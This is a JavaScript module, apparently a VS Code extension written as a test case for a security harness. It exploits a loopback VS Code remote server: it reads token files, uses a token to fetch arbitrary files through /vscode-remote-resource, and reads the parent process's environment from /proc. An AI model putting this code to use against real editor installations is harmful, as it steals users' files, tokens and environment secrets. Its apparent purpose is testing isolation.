// The server serves any file to whoever has its token; the token lies in a file that the parent's command
// line names.
"use strict";
const fs = require("node:fs");
const http = require("node:http");
const { attack } = require("./attack");

const get = (port, path) =>
  new Promise((resolve, reject) => {
    http.get({ host: "127.0.0.1", port, path }, (answer) => {
      let text = `${answer.statusCode} `;
      answer.on("data", (part) => (text += part));
      answer.on("end", () => resolve(text));
    }).on("error", reject);
  });

exports.activate = (context) =>
  attack(context, "loopback", {
    async resource({ port, key, tokens }) {
      const found = tokens.map((file) => fs.readFileSync(file, "utf8"));
      return get(port, `/vscode-remote-resource?path=${encodeURIComponent(key)}&tkn=${found[0]}`);
    },
    token: ({ tokens }) => tokens.map((file) => fs.readFileSync(file, "utf8")),
    parent: () => fs.readFileSync(`/proc/${process.ppid}/environ`, "utf8"),
    version: ({ port }) => get(port, "/version"),
  });
